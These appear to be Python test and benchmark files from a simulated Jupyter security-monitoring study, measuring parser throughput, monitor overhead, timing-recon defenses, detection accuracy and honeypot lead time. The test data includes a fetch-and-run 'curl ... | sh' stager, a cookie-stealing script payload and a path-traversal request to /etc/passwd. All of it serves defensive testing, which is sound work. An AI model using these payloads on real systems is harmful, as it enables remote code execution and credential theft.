    assert not monitor._tele_on
    assert monitor.telemetry.registry.families() == []


def test_write_bench_obs_json():
    """Persist the machine-readable report (runs last in this module)."""
    assert "enabled_mbps" in RESULTS and "profiled_mbps" in RESULTS
    os.makedirs(os.path.dirname(_REPORT_PATH), exist_ok=True)
    payload = {
        "benchmark": "BENCH-OBS",
        "schema_version": SCHEMA_VERSION,
        "methodology": "back-to-back disabled/enabled pairs, best-pair ratio",
        "guard": f"enabled >= {1 - MAX_OVERHEAD:.2f} * disabled throughput",
        "meta": run_metadata(workload="EXP-OVH trace", depth="JUPYTER"),
        **RESULTS,
    }
    assert validate_schema_version(payload, "BENCH_OBS.json") == []
    with open(_REPORT_PATH, "w") as fh:
        json.dump(payload, fh, indent=2, sort_keys=True)
        fh.write("\n")
    print(json.dumps(payload, indent=2, sort_keys=True))
