"""EXP-WS — the observability gap: parsing WebSocket/ZMTP at line rate.

Paper §I/§II: "Jupyter uses encrypted datagrams of rapidly evolving
WebSocket protocols that challenge even the most state-of-the-art
network observability tools, such as Zeek."  This bench prices each
parsing layer on realistic Jupyter traffic: raw frame decode, masked
frame decode, fragmentation reassembly, ZMTP multipart decode, and the
full Jupyter-JSON layer — in MB/s, so the 'cost of visibility' claim
becomes a number.
"""

import json

import pytest
from _bench_utils import report

from repro.messaging import Session
from repro.wire.websocket import (
    Frame,
    Opcode,
    WebSocketDecoder,
    encode_frame,
    fragment_message,
)
from repro.wire.zmtp import ZmtpDecoder, encode_greeting, encode_multipart

# Realistic payload: a Jupyter execute_request in WS JSON framing.
_session = Session(b"bench")
PAYLOAD = _session.execute_request(
    "import numpy as np\nresult = np.linalg.svd(data)\nprint(result)"
).to_websocket_json().encode()

N_MESSAGES = 200

UNMASKED_STREAM = b"".join(
    encode_frame(Frame(True, Opcode.TEXT, PAYLOAD)) for _ in range(N_MESSAGES))
MASKED_STREAM = b"".join(
    encode_frame(Frame(True, Opcode.TEXT, PAYLOAD), mask_key=b"\x12\x34\x56\x78")
    for _ in range(N_MESSAGES))
FRAGMENTED_STREAM = b"".join(
    b"".join(fragment_message(PAYLOAD, 256, Opcode.TEXT)) for _ in range(N_MESSAGES))
ZMTP_STREAM = encode_greeting() + b"".join(
    encode_multipart(_session.serialize(_session.execute_request(f"x = {i}")))
    for i in range(N_MESSAGES))


def _mbps(benchmark, nbytes: int) -> float:
    return (nbytes / benchmark.stats.stats.mean) / 1e6


def test_ws_decode_unmasked(benchmark):
    def decode():
        dec = WebSocketDecoder()
        dec.feed(UNMASKED_STREAM)
        return dec.messages()

    msgs = benchmark(decode)
    assert len(msgs) == N_MESSAGES
    report("EXP-WS", f"ws unmasked decode     : {_mbps(benchmark, len(UNMASKED_STREAM)):8.1f} MB/s")


def test_ws_decode_masked(benchmark):
    def decode():
        dec = WebSocketDecoder()
        dec.feed(MASKED_STREAM)
        return dec.messages()

    msgs = benchmark(decode)
    assert len(msgs) == N_MESSAGES
    assert msgs[0][1] == PAYLOAD
    report("EXP-WS", f"ws masked decode       : {_mbps(benchmark, len(MASKED_STREAM)):8.1f} MB/s "
                     "(unmasking cost)")


def test_ws_decode_fragmented(benchmark):
    def decode():
        dec = WebSocketDecoder()
        dec.feed(FRAGMENTED_STREAM)
        return dec.messages()

    msgs = benchmark(decode)
    assert len(msgs) == N_MESSAGES
    report("EXP-WS", f"ws fragmented reassembly: {_mbps(benchmark, len(FRAGMENTED_STREAM)):7.1f} MB/s")


def test_zmtp_decode(benchmark):
    def decode():
        dec = ZmtpDecoder()
        dec.feed(ZMTP_STREAM)
        return dec.messages()

    msgs = benchmark(decode)
    assert len(msgs) == N_MESSAGES
    report("EXP-WS", f"zmtp multipart decode  : {_mbps(benchmark, len(ZMTP_STREAM)):8.1f} MB/s")


def test_jupyter_layer_parse(benchmark):
    """The semantic layer on top: JSON + header extraction."""
    def parse():
        dec = WebSocketDecoder()
        dec.feed(UNMASKED_STREAM)
        out = []
        for _, payload in dec.messages():
            d = json.loads(payload)
            out.append((d["header"]["msg_type"], d.get("content", {}).get("code", "")))
        return out

    parsed = benchmark(parse)
    assert len(parsed) == N_MESSAGES
    report("EXP-WS", f"+ jupyter JSON layer   : {_mbps(benchmark, len(UNMASKED_STREAM)):8.1f} MB/s "
                     "(the semantic visibility the paper asks for)")


def test_layer_cost_ordering(benchmark):
    """Shape check: each added layer costs throughput; JSON dominates."""
    import time

    def cost(fn) -> float:
        t0 = time.perf_counter()
        for _ in range(3):
            fn()
        return (time.perf_counter() - t0) / 3

    def frames_only():
        dec = WebSocketDecoder()
        dec.feed(UNMASKED_STREAM)
        dec.messages()

    def with_json():
        dec = WebSocketDecoder()
        dec.feed(UNMASKED_STREAM)
        for _, payload in dec.messages():
            json.loads(payload)

    t_frames = benchmark.pedantic(lambda: cost(frames_only), rounds=1, iterations=1)
    t_json = cost(with_json)
    report("EXP-WS", f"\nlayer cost: frames={t_frames * 1e3:.2f}ms, "
                     f"+json={t_json * 1e3:.2f}ms "
                     f"({t_json / t_frames:.1f}x)")
    assert t_json > t_frames
