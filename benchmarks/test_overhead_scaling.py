"""EXP-OVH — monitoring overhead vs analyzer depth and traffic volume.

Paper §IV.A: "a security auditor may add unsustainable performance
overhead to scientific computing" as traffic grows.  We record one
realistic traffic trace (REST + WebSocket kernel session), then replay
it into monitors of increasing analyzer depth and measure real
processing time per byte.  Expected shape: cost grows monotonically
with depth, with the Jupyter-layer parse (JSON) dominating — the
quantified version of the paper's scalability concern.
"""

import pytest
from _bench_utils import report

from repro.monitor import AnalyzerDepth, JupyterNetworkMonitor
from repro.server import JupyterServer, ServerConfig, ServerGateway, WebSocketKernelClient
from repro.simnet import Network


def record_trace(cells: int = 10):
    """One canned session's segment trace."""
    net = Network(default_latency=0.001)
    server_host = net.add_host("jupyter", "10.0.0.1")
    client_host = net.add_host("laptop", "10.0.0.2")
    tap = net.add_tap()
    server = JupyterServer(ServerConfig(ip="0.0.0.0", token="tok"), net, server_host)
    ServerGateway(server)
    client = WebSocketKernelClient(client_host, server_host, token="tok")
    client.request("GET", "/api/status")
    client.start_kernel()
    client.connect_channels()
    for i in range(cells):
        client.execute(f"value = sum(range({100 + i}))\nprint(value)")
    return tap.segments


TRACE = record_trace()
TRACE_BYTES = sum(s.size for s in TRACE)


def replay(depth: AnalyzerDepth):
    monitor = JupyterNetworkMonitor(depth=depth)
    for seg in TRACE:
        monitor.on_segment(seg)
    return monitor


@pytest.mark.parametrize("depth", list(AnalyzerDepth), ids=lambda d: d.name.lower())
def test_depth_cost(benchmark, depth):
    monitor = benchmark(replay, depth)
    # Deeper monitors must decode strictly more.
    counts = monitor.logs.counts()
    if depth >= AnalyzerDepth.HTTP:
        assert counts["http"] > 0
    if depth >= AnalyzerDepth.WEBSOCKET:
        assert counts["websocket"] > 0
    if depth >= AnalyzerDepth.ZMTP:
        assert counts["zmtp"] > 0
    if depth >= AnalyzerDepth.JUPYTER:
        assert counts["jupyter"] > 0
    stats = benchmark.stats.stats
    mb_per_s = (TRACE_BYTES / stats.mean) / 1e6
    report("EXP-OVH", f"depth={depth.name:10s} mean={stats.mean * 1e3:8.3f} ms/trace "
                      f"({mb_per_s:8.1f} MB/s)  logs={counts}")


def test_overhead_grows_with_traffic(benchmark):
    """Linear scaling check: 4x the traffic ~ 4x the work (no blowup)."""
    import time

    def cost(multiplier: int) -> float:
        t0 = time.perf_counter()
        monitor = JupyterNetworkMonitor(depth=AnalyzerDepth.JUPYTER)
        for _ in range(multiplier):
            for seg in TRACE:
                monitor.on_segment(seg)
        return time.perf_counter() - t0

    # Warm up, then measure the ratio.
    cost(1)
    t1 = cost(1)
    t4 = benchmark.pedantic(lambda: cost(4), rounds=3, iterations=1)
    ratio = t4 / t1 if t1 > 0 else float("inf")
    report("EXP-OVH", f"\ntraffic x4 -> processing x{ratio:.1f} "
                      f"(t1={t1 * 1e3:.1f}ms, t4={t4 * 1e3:.1f}ms)")
    assert ratio < 12, "superlinear blowup in monitor processing"
