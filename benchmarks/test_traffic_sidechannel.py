"""EXP-TRAFFIC — timing recon vs padding/jitter, with the padding bill.

Three questions, answered with numbers at one fixed seed:

1. **Attack works** — on the clean ``sharded-hub-geo`` world the
   :class:`TrafficFingerprinter` recovers the true tenant→shard map and
   flags the decoy tenant from response latency alone, with *zero* 403s
   (nothing in the defender's logs shows an access violation).
2. **Countermeasure works** — the same recon against the
   ``padded-sharded-hub-geo`` world degrades to near-chance (and stays
   there across a seed sweep: one lucky draw is not a defense claim),
   while the ``defended-padded-`` world turns the recon's own probe
   cadence into a TRAFFIC_PATTERN incident the playbook contains.
3. **What it costs** — wall-clock routing throughput of a padded hub vs
   the unshaped hub, measured as back-to-back pairs in one process.
   CI guards the overhead at ≤10% (relative ratio, so noisy runners
   cannot fake a pass or a fail with absolute numbers).

Human-readable table → ``benchmarks/reports/EXP-TRAFFIC.txt``;
machine-readable → ``benchmarks/reports/BENCH_TRAFFIC.json``.
"""

import json
import os
import time

from _bench_utils import report, run_metadata

from repro.cli.traffic import PADDED_ACCURACY_CEILING, run_recon
from repro.hub.users import insecure_hub_config
from repro.topology import WorldBuilder, spec_preset

_REPORT_PATH = os.path.join(os.path.dirname(__file__), "reports",
                            "BENCH_TRAFFIC.json")

#: The fixed experiment seed (the CLI's default; gates verified there).
SEED = 7
#: Seed sweep for the padded-accuracy mean — a defeat claim over one
#: seed is luck, over a sweep it is structure.
SWEEP_SEEDS = (1, 2, 3, 4, 5)
#: CI guard: padded routing throughput >= 90% of unshaped.
MAX_PADDING_OVERHEAD = 0.10

REQUESTS_PER_RUN = 120
PAIRS = 5

RESULTS = {}


def _recon_row(name, **overrides):
    return run_recon(spec_preset(name, seed=overrides.pop("seed", SEED),
                                 **overrides))


def test_exp_traffic_matrix():
    report("EXP-TRAFFIC",
           "EXP-TRAFFIC: timing recon vs padding/jitter countermeasures",
           meta={"seed": SEED, "sweep": list(SWEEP_SEEDS)})
    report("EXP-TRAFFIC",
           f"  {'world':<34} {'acc':>6} {'decoys_flagged':<28} "
           f"{'denied':>6} {'blocked':>7} {'pattern':>7} {'actions':>7}")

    clean = _recon_row("sharded-hub-geo", decoy_names=("admin",))
    padded = _recon_row("padded-sharded-hub-geo")
    # No decoys in the defended row: the honeypot-intel auto-block would
    # contain the recon before the pattern detector sees a full train,
    # and this row exists to demonstrate the TRAFFIC_PATTERN path.
    defended = _recon_row("defended-padded-sharded-hub-geo",
                          decoy_names=(), hub_config=insecure_hub_config())
    for row in (clean, padded, defended):
        v = row["verdict"]
        acc = "-" if row["accuracy"] is None else f"{row['accuracy']:.3f}"
        report("EXP-TRAFFIC",
               f"  {row['topology']:<34} {acc:>6} "
               f"{','.join(v['suspected_decoys']) or '-':<28} "
               f"{v['denied']:>6} {v['blocked']:>7} "
               f"{row['traffic_pattern_notices']:>7} "
               f"{len(row['containment_actions']):>7}")

    # 1. Clean world: full map, decoy flagged, zero 403s of any kind.
    assert clean["accuracy"] == 1.0
    assert clean["decoys"]["recall"] == 1.0
    assert clean["verdict"]["denied"] == 0
    assert clean["verdict"]["blocked"] == 0
    # 2. Padded world: near-chance map, still zero blocks (padding is a
    #    countermeasure, not a response), decoy verdicts now noise.
    assert padded["accuracy"] <= PADDED_ACCURACY_CEILING
    assert padded["verdict"]["blocked"] == 0
    # 3. Defended world: the probe cadence itself becomes the incident.
    assert defended["traffic_pattern_notices"] >= 1
    assert defended["verdict"]["contained"]
    assert any(a["action"] == "block_source"
               for a in defended["containment_actions"])

    RESULTS["clean_accuracy"] = clean["accuracy"]
    RESULTS["clean_decoy_recall"] = clean["decoys"]["recall"]
    RESULTS["padded_accuracy"] = padded["accuracy"]
    RESULTS["defended_pattern_notices"] = defended["traffic_pattern_notices"]
    RESULTS["defended_contained"] = defended["verdict"]["contained"]
    RESULTS["recon_probes"] = clean["verdict"]["probes"]


def test_padded_accuracy_stays_near_chance_across_seeds():
    accs = []
    for seed in SWEEP_SEEDS:
        row = _recon_row("padded-sharded-hub-geo", seed=seed)
        accs.append(row["accuracy"])
    mean = sum(accs) / len(accs)
    report("EXP-TRAFFIC",
           f"  padded accuracy over seeds {list(SWEEP_SEEDS)}: "
           f"{[round(a, 3) for a in accs]} (mean {mean:.3f})")
    # Chance is 1/3 over three shards; nearest-shard tenants classify
    # correctly for free, so the structural floor is ~0.5.  The *mean*
    # must sit near it even though single seeds scatter.
    assert mean <= 0.6, f"padded accuracy mean {mean:.3f} — padding is leaky"
    RESULTS["padded_accuracy_sweep"] = [round(a, 3) for a in accs]
    RESULTS["padded_accuracy_mean"] = round(mean, 3)


def _drive_requests(scenario, n_requests: int) -> float:
    names = scenario.tenant_names
    clients = [scenario.user_client(username=name) for name in names]
    t0 = time.perf_counter()
    for i in range(n_requests):
        resp = clients[i % len(clients)].request("GET", "/api/status")
        assert resp.status == 200
    return time.perf_counter() - t0


def test_padding_throughput_overhead_within_10pct():
    """The tradeoff's price tag, as back-to-back unshaped/padded pairs
    (fresh worlds each pair; best-pair ratio absorbs runner noise)."""
    def build(name):
        return WorldBuilder().build(spec_preset(name, seed=SEED))

    _drive_requests(build("hub"), REQUESTS_PER_RUN)          # warm-up
    _drive_requests(build("padded-hub"), REQUESTS_PER_RUN)
    best_plain = best_padded = float("inf")
    ratios = []
    for _ in range(PAIRS):
        plain = _drive_requests(build("hub"), REQUESTS_PER_RUN)
        padded = _drive_requests(build("padded-hub"), REQUESTS_PER_RUN)
        best_plain = min(best_plain, plain)
        best_padded = min(best_padded, padded)
        ratios.append(plain / padded)
    ratios.sort()
    best_ratio = ratios[-1]
    median_ratio = ratios[len(ratios) // 2]
    plain_rps = REQUESTS_PER_RUN / best_plain
    padded_rps = REQUESTS_PER_RUN / best_padded
    report("EXP-TRAFFIC",
           f"  throughput: unshaped {plain_rps:.0f} req/s, "
           f"padded {padded_rps:.0f} req/s "
           f"(median pair ratio {median_ratio:.3f})")
    RESULTS["unpadded_rps"] = round(plain_rps, 1)
    RESULTS["padded_rps"] = round(padded_rps, 1)
    RESULTS["plain_over_padded_median_pair"] = round(median_ratio, 3)
    RESULTS["padding_overhead_pct"] = round(max(0.0, 1 - best_ratio) * 100, 1)
    assert best_ratio >= 1 - MAX_PADDING_OVERHEAD, (
        f"padding overhead {1 - best_ratio:.1%} exceeds "
        f"{MAX_PADDING_OVERHEAD:.0%} budget")


def test_write_bench_traffic_json():
    """Persist the machine-readable report (runs last in this module)."""
    assert "padding_overhead_pct" in RESULTS and "padded_accuracy" in RESULTS
    os.makedirs(os.path.dirname(_REPORT_PATH), exist_ok=True)
    payload = {
        "benchmark": "BENCH-TRAFFIC",
        "methodology": "fixed-seed recon matrix + back-to-back "
                       "unshaped/padded throughput pairs",
        "guard": f"padded >= {1 - MAX_PADDING_OVERHEAD:.2f} * unshaped "
                 f"throughput; padded accuracy <= {PADDED_ACCURACY_CEILING}",
        "meta": run_metadata(seed=SEED, preset="sharded-hub-geo"),
        **RESULTS,
    }
    with open(_REPORT_PATH, "w") as fh:
        json.dump(payload, fh, indent=2, sort_keys=True)
        fh.write("\n")
    print(json.dumps(payload, indent=2, sort_keys=True))
