"""EXP-DET — detection accuracy per attack class over a mixed corpus.

The taxonomy claims each avenue is detectable; this experiment runs a
mixed benign+attack campaign and reports, per attack class, whether the
network plane, the kernel-audit plane, or both caught it — plus
source-level TPR/FPR.  Expected shape: every attack class detected by
at least one plane; zero false positives on benign scientists; the
planes are complementary (some attacks visible to only one), which is
the paper's argument for building *both* tools.
"""

import pytest
from _bench_utils import report

from repro.attacks import (
    CryptominingAttack,
    ExfiltrationAttack,
    OutputSmugglingAttack,
    RansomwareAttack,
    TokenBruteforceAttack,
)
from repro.attacks.scenario import build_scenario
from repro.eval import ConfusionMatrix, DetectionEvaluator
from repro.taxonomy.render import render_table
from repro.workload import ScientistWorkload


def run_campaign():
    sc = build_scenario(seed=99)
    # Benign background: two scientists.
    ScientistWorkload(sc, username="alice").run_session(cells=4)
    ScientistWorkload(sc, username="bob", seed_name="w2").run_session(cells=4)
    outcomes = {}
    # Ransomware goes last: it destroys the artifacts the other
    # exfiltration attacks target (as it would in a real kill chain).
    for attack in (TokenBruteforceAttack(delay=0.3),
                   ExfiltrationAttack(),
                   OutputSmugglingAttack(),
                   CryptominingAttack(rounds=8, hashes_per_round=300),
                   RansomwareAttack(via="rest")):
        before_net = {n.name for n in sc.monitor.logs.notices}
        before_audit = {n.name for a in sc.auditors.values() for n in a.notices}
        attack.run(sc)
        sc.run(10.0)
        after_net = {n.name for n in sc.monitor.logs.notices}
        after_audit = {n.name for a in sc.auditors.values() for n in a.notices}
        outcomes[attack.name] = {
            "network": sorted(after_net - before_net),
            "audit": sorted(after_audit - before_audit),
        }
    return sc, outcomes


def test_per_attack_plane_coverage(benchmark):
    sc, outcomes = benchmark.pedantic(run_campaign, rounds=1, iterations=1)
    rows = []
    for name, planes in outcomes.items():
        net = ", ".join(planes["network"]) or "-"
        audit = ", ".join(planes["audit"]) or "-"
        rows.append((name, net[:45], audit[:45]))
    report("EXP-DET", "=== per-attack detection, by plane ===")
    report("EXP-DET", render_table(rows, ["attack", "network plane", "kernel-audit plane"]))
    # Every attack visible to at least one plane.
    for name, planes in outcomes.items():
        assert planes["network"] or planes["audit"], f"{name} went fully undetected"
    # Output smuggling is invisible to flow-volume detectors (no attacker
    # socket) — only the deep Jupyter-layer parse catches it.  This is the
    # paper's core visibility argument quantified.
    assert "EXFIL_VOLUME" not in outcomes["output-smuggling"]["network"]
    assert "OVERSIZED_OUTPUT" in outcomes["output-smuggling"]["network"]


def test_source_level_accuracy(benchmark):
    from repro.dataset import DatasetBuilder

    def build():
        builder = DatasetBuilder(seed=100, benign_sessions=2, benign_cells_per_session=4)
        records = builder.build([TokenBruteforceAttack(delay=0.3), ExfiltrationAttack()])
        # Exclude the server's own IP: it is shared infrastructure, and
        # attributing its egress to a principal is the kernel auditor's
        # job (which the attributed POLICY_* notices here demonstrate).
        server_ip = builder.scenario.server_host.ip
        return DetectionEvaluator().evaluate_sources(records, exclude=(server_ip, "kernel"))

    cm = benchmark.pedantic(build, rounds=1, iterations=1)
    report("EXP-DET", f"\nsource-level confusion matrix: {cm.as_dict()}")
    assert cm.tpr >= 0.99, "attacker sources must be flagged"
    assert cm.fpr == 0.0, "benign scientists must not be flagged"
