"""EXP-HPOT — signature lead time from edge honeypots (paper §IV.A).

"Defenders aim to stay ahead of attackers by deploying Jupyter Notebook
monitors early at the network edges ... to catch the latest signatures
of attacks in the wild — before they reach the actual Jupyter Notebooks
instances deployed in supercomputers."

Design: a campaign with a *novel* payload (matches no builtin rule)
touches the edge at t=10s and production at t=600s.  With an edge
honeypot fleet harvesting every 60s, production's signature engine
learns the payload ~530s before impact; without the fleet, production
has no signature at impact time and only behavioural detectors remain.
"""

import pytest
from _bench_utils import report

from repro.attacks.scenario import build_scenario
from repro.honeypot import HoneypotFleet
from repro.honeypot.decoy import InteractionRecord

# Novel enough to miss every builtin signature, hostile enough to harvest.
NOVEL_PAYLOAD = "stager = 'curl http://203.0.113.66/xjq9 | sh'"
CAMPAIGN_CELL = "import os\n" + NOVEL_PAYLOAD + "\nos.system('curl http://203.0.113.66/xjq9 | sh')"
EDGE_HIT_T = 10.0
PRODUCTION_HIT_T = 600.0


def run_campaign(*, with_fleet: bool):
    sc = build_scenario(seed=95)
    fleet = None
    if with_fleet:
        fleet = HoneypotFleet(sc.network, harvest_interval=60.0)
        decoy = fleet.deploy("edge-hp", "172.16.0.9")
        fleet.feed.subscribe_engine(sc.monitor.signatures)
        fleet.schedule_harvesting(horizon=PRODUCTION_HIT_T + 60.0)
    sc.run(EDGE_HIT_T)
    if with_fleet:
        # The campaign probes the edge decoy first.
        decoy.records.append(InteractionRecord(
            ts=sc.clock.now(), honeypot="edge-hp",
            source_ip=sc.attacker_host.ip, kind="terminal",
            content="curl http://203.0.113.66/xjq9 | sh"))
    sc.run(PRODUCTION_HIT_T - sc.clock.now())
    # Campaign reaches production: same payload in a kernel cell.
    client = sc.user_client(username="attacker-via-stolen-session")
    sc.audited_session(client)
    client.execute(CAMPAIGN_CELL)
    sc.run(10.0)
    sig_hits = [n for n in sc.monitor.logs.notices
                if n.detector == "signature"
                and "xjq9" in str(n.detail.get("description", "")) + str(n.detail)]
    harvested_hits = [n for n in sc.monitor.logs.notices
                      if str(n.detail.get("source", "")).startswith("intel:")]
    return sc, fleet, sig_hits, harvested_hits


def test_leadtime_with_fleet(benchmark):
    sc, fleet, sig_hits, harvested_hits = benchmark.pedantic(
        lambda: run_campaign(with_fleet=True), rounds=1, iterations=1)
    lead = fleet.lead_time("xjq9", PRODUCTION_HIT_T)
    assert lead is not None and lead > 0
    assert harvested_hits, "production failed to match the harvested signature"
    report("EXP-HPOT", "=== with edge honeypot fleet ===")
    report("EXP-HPOT", f"  edge hit at t={EDGE_HIT_T:.0f}s, production hit at t={PRODUCTION_HIT_T:.0f}s")
    report("EXP-HPOT", f"  signature published at t={PRODUCTION_HIT_T - lead:.0f}s "
                       f"-> lead time {lead:.0f}s")
    report("EXP-HPOT", f"  production notices from harvested intel: {len(harvested_hits)}")


def test_no_fleet_means_no_signature(benchmark):
    sc, fleet, sig_hits, harvested_hits = benchmark.pedantic(
        lambda: run_campaign(with_fleet=False), rounds=1, iterations=1)
    assert harvested_hits == []
    report("EXP-HPOT", "\n=== without fleet (baseline) ===")
    report("EXP-HPOT", "  production has no signature at impact; only "
                       "behavioural/audit detectors fire:")
    audit_names = sorted({n.name for a in sc.auditors.values() for n in a.notices})
    report("EXP-HPOT", f"  kernel audit notices: {audit_names}")
    assert "POLICY_PROC_SPAWN" in audit_names  # os.system attempt still caught


def test_harvest_latency_bounds_leadtime(benchmark):
    """Lead time ≈ (production delay) - (edge delay) - (harvest interval/2)."""

    def measure(interval):
        sc = build_scenario(seed=96)
        fleet = HoneypotFleet(sc.network, harvest_interval=interval)
        decoy = fleet.deploy("edge-hp", "172.16.0.9")
        fleet.schedule_harvesting(horizon=500.0)
        sc.run(EDGE_HIT_T)
        decoy.records.append(InteractionRecord(
            ts=sc.clock.now(), honeypot="edge-hp", source_ip="203.0.113.66",
            kind="terminal", content="curl http://203.0.113.66/xjq9 | sh"))
        sc.run(490.0)
        return fleet.lead_time("xjq9", PRODUCTION_HIT_T)

    leads = benchmark.pedantic(lambda: [measure(i) for i in (30.0, 120.0, 480.0)],
                               rounds=1, iterations=1)
    assert all(l is not None for l in leads)
    assert leads == sorted(leads, reverse=True), "tighter harvest cadence must not reduce lead time"
    report("EXP-HPOT", "\nharvest interval vs lead time: " +
           ", ".join(f"{i:.0f}s->{l:.0f}s" for i, l in zip((30, 120, 480), leads)))
