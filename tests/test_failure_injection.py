"""Failure injection: hostile and corrupted inputs at every boundary.

The paper's threat model includes attacks on the *defenders* — these
tests verify that malformed wire data, forged signatures, replays, and
tampered documents degrade safely (logged as weird/denied) instead of
crashing or silently passing."""

import json

import pytest

from repro.messaging import DELIMITER, Session
from repro.nbformat import Notebook, NotebookSignatureStore
from repro.server import JupyterServer, ServerConfig, ServerGateway, WebSocketKernelClient
from repro.simnet import Network
from repro.util.errors import ProtocolError
from repro.wire.websocket import Frame, Opcode, encode_frame, encode_text


def make_world(**cfg_kw):
    net = Network(default_latency=0.001)
    server_host = net.add_host("jupyter", "10.0.0.1")
    client_host = net.add_host("laptop", "10.0.0.2")
    cfg = ServerConfig(ip="0.0.0.0", token="tok", **cfg_kw)
    server = JupyterServer(cfg, net, server_host)
    gateway = ServerGateway(server)
    return net, server, gateway, client_host, server_host


class TestWireGarbage:
    def test_random_bytes_at_http_port(self):
        net, server, gateway, client_host, server_host = make_world()
        conn = client_host.connect(server_host, 8888)
        # Binary junk with a header terminator so the parser engages.
        conn.send_to_server(b"\x00\x01\x02 NOT HTTP \xff\xfe\r\n\r\n")
        net.run(1.0)  # must not raise
        assert gateway.protocol_errors  # recorded, not crashed

    def test_headerless_junk_just_buffers(self):
        """Junk without a terminator sits in the buffer — no crash, no
        error, exactly like a real server awaiting more bytes."""
        net, server, gateway, client_host, server_host = make_world()
        conn = client_host.connect(server_host, 8888)
        conn.send_to_server(bytes(range(256)) * 4)
        net.run(1.0)
        assert gateway.protocol_errors == []

    def test_http_then_garbage_ws_frames(self):
        net, server, gateway, client_host, server_host = make_world()
        client = WebSocketKernelClient(client_host, server_host, token="tok")
        client.start_kernel()
        client.connect_channels()
        # Inject reserved-bit frames directly into the upgraded connection.
        client._conn.send_to_server(b"\xc1\x05hello")
        net.run(1.0)
        assert any("RSV" in e for e in gateway.protocol_errors)

    def test_ws_non_jupyter_json(self):
        net, server, gateway, client_host, server_host = make_world()
        client = WebSocketKernelClient(client_host, server_host, token="tok")
        client.start_kernel()
        client.connect_channels()
        client._conn.send_to_server(encode_text("not json at all",
                                                mask_key=b"\x01\x02\x03\x04"))
        net.run(1.0)
        assert any("bad ws message" in e for e in gateway.protocol_errors)

    def test_oversized_control_frame_rejected_at_encode(self):
        with pytest.raises(ProtocolError):
            encode_frame(Frame(True, Opcode.CLOSE, b"z" * 200))


class TestSignatureAttacks:
    def test_forged_kernel_message_dropped_not_executed(self):
        """An on-path attacker injects an unsigned execute_request at the
        ZMTP layer; the kernel must drop it without running the code."""
        from repro.wire.zmtp import encode_greeting, encode_multipart

        net, server, gateway, client_host, server_host = make_world()
        client = WebSocketKernelClient(client_host, server_host, token="tok")
        kid = client.start_kernel()
        kernel = server.kernels[kid]
        binding = server.kernel_bindings[kid]
        # Connect directly to the shell port from the server host (on-path).
        forged_session = Session(b"WRONG-KEY", check_replay=False)
        conn = server_host.connect(server_host, binding.ports[list(binding.ports)[0]])
        conn.send_to_server(encode_greeting() + encode_multipart(
            forged_session.serialize(forged_session.execute_request("pwned = True"))))
        net.run(1.0)
        assert kernel.execution_count == 0
        assert kernel.world.events_of("bad_message")

    def test_downgrade_to_null_signer_is_detectable(self):
        """With an empty session key everything verifies — the scanner
        flags this configuration (JPT-010)."""
        from repro.misconfig import run_checks

        cfg = ServerConfig(session_key=b"")
        failed = {r.check_id for r in run_checks(cfg) if not r.passed}
        assert "JPT-010" in failed

    def test_replayed_execute_request_rejected(self):
        sender = Session(b"key")
        receiver = Session(b"key")  # replay protection on
        wire = sender.serialize(sender.execute_request("transfer_funds()"))
        receiver.unserialize(wire)
        with pytest.raises(ProtocolError, match="replayed"):
            receiver.unserialize(wire)

    def test_segment_reordering_breaks_signature(self):
        """Swapping header and content segments must fail verification."""
        s = Session(b"key")
        parts = s.serialize(s.execute_request("1"))
        parts[2], parts[5] = parts[5], parts[2]
        with pytest.raises(ProtocolError, match="signature"):
            Session(b"key").unserialize(parts)


class TestDocumentTampering:
    def test_notebook_output_injection_loses_trust(self):
        store = NotebookSignatureStore(b"notary")
        nb = Notebook.new()
        nb.add_code("print('benign')")
        store.sign(nb)
        # Attacker injects a script payload into a trusted notebook's outputs.
        nb.code_cells[0].outputs.append({
            "output_type": "display_data",
            "data": {"text/html": "<script>fetch('//evil/'+document.cookie)</script>"},
            "metadata": {},
        })
        assert not store.check(nb)

    def test_server_sanitizes_untrusted_notebook_on_read(self):
        net, server, gateway, client_host, server_host = make_world()
        client = WebSocketKernelClient(client_host, server_host, token="tok")
        nb = Notebook.new()
        cell = nb.add_code("x")
        cell.outputs.append({
            "output_type": "display_data",
            "data": {"text/html": "<script>alert(1)</script>", "text/plain": "ok"},
            "metadata": {},
        })
        client.json("PUT", "/api/contents/evil.ipynb",
                    {"type": "notebook", "content": nb.to_dict()})
        model = client.json("GET", "/api/contents/evil.ipynb")
        assert model["trusted"] is False
        outputs = model["content"]["cells"][0]["outputs"]
        assert all("text/html" not in o.get("data", {}) for o in outputs)

    def test_malformed_notebook_rejected_by_contents_api(self):
        net, server, gateway, client_host, server_host = make_world()
        client = WebSocketKernelClient(client_host, server_host, token="tok")
        resp = client.request("PUT", "/api/contents/bad.ipynb", json.dumps({
            "type": "notebook", "content": {"cells": [{"cell_type": "exploit"}]},
        }).encode())
        assert resp.status == 400

    def test_path_traversal_rejected_end_to_end(self):
        net, server, gateway, client_host, server_host = make_world()
        client = WebSocketKernelClient(client_host, server_host, token="tok")
        resp = client.request("GET", "/api/contents/../../etc/passwd")
        assert resp.status in (400, 404)
        # And the VFS never saw a normalized traversal path.
        assert not server.fs.exists("etc/passwd")


class TestResourceExhaustion:
    def test_kernel_op_bomb_contained(self):
        net, server, gateway, client_host, server_host = make_world()
        client = WebSocketKernelClient(client_host, server_host, token="tok")
        client.start_kernel()
        client.connect_channels()
        reply = client.execute("while True:\n    pass", wait=120.0)
        assert reply is not None
        assert reply.content["ename"] == "ResourceLimitError"
        # Kernel survives and accepts the next cell.
        reply2 = client.execute("1 + 1", wait=60.0)
        assert reply2.content["status"] == "ok"

    def test_ws_message_size_cap(self):
        from repro.wire.websocket import WebSocketDecoder

        dec = WebSocketDecoder(max_message_size=1024)
        with pytest.raises(ProtocolError, match="cap"):
            dec.feed(encode_frame(Frame(True, Opcode.BINARY, b"z" * 2048)))

    def test_recursion_bomb_contained(self):
        net, server, gateway, client_host, server_host = make_world()
        client = WebSocketKernelClient(client_host, server_host, token="tok")
        client.start_kernel()
        client.connect_channels()
        reply = client.execute("def f():\n    return f()\nf()", wait=60.0)
        assert reply.content["ename"] == "ResourceLimitError"
