"""End-to-end server tests: REST + WebSocket + ZMTP over the simnet.

This is the paper's Fig. 2 exercised in full: an external client on a
separate host authenticates over HTTP, upgrades to WebSocket, executes a
cell; the server relays to the kernel over ZMTP loopback; the tap sees
every byte of all three protocols.
"""

import json

import pytest

from repro.server import JupyterServer, ServerConfig, ServerGateway, WebSocketKernelClient
from repro.simnet import Network


def make_world(*, token="tok", config=None, tap=True):
    net = Network(default_latency=0.001)
    server_host = net.add_host("jupyter", "10.0.0.1")
